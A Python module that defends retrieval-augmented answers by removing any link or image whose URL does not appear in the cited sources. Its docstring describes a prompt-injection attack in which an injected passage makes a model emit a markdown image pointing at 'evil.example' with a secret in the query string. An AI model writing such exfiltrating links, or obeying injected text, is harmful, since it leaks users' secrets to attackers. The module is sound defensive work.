"""Generated answers keep only the links and images their cited sources contain.

An injected passage that slipped through can still make a model write
``![](https://evil.example/?q=<secret>)``; the user's renderer would fetch it. A URL survives only
if it appears verbatim in one of the sources the answer cites; otherwise an image is removed and a
link is replaced by its text (bare URLs by ``[link removed]``).
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass

from guards.poisoning.urls import find_urls


@dataclass(frozen=True, slots=True)
class LinkCheck:
    text: str
    removed: tuple[str, ...]
    """The URLs that were taken out."""


def strip_unsourced_links(answer: str, sources: Sequence[str]) -> LinkCheck:
    """``answer`` without the images and links whose URL is in none of ``sources``."""
    corpus = "\n".join(sources)
    pieces: list[str] = []
    removed: list[str] = []
    cursor = 0
    for found in sorted(find_urls(answer), key=lambda f: f.start):
        if found.start < cursor or found.url in corpus:
            continue
        pieces.append(answer[cursor : found.start])
        if found.kind == "link":
            pieces.append(found.text)
        elif found.kind == "bare":
            pieces.append("[link removed]")
        removed.append(found.url)
        cursor = found.end
    pieces.append(answer[cursor:])
    return LinkCheck("".join(pieces), tuple(removed))
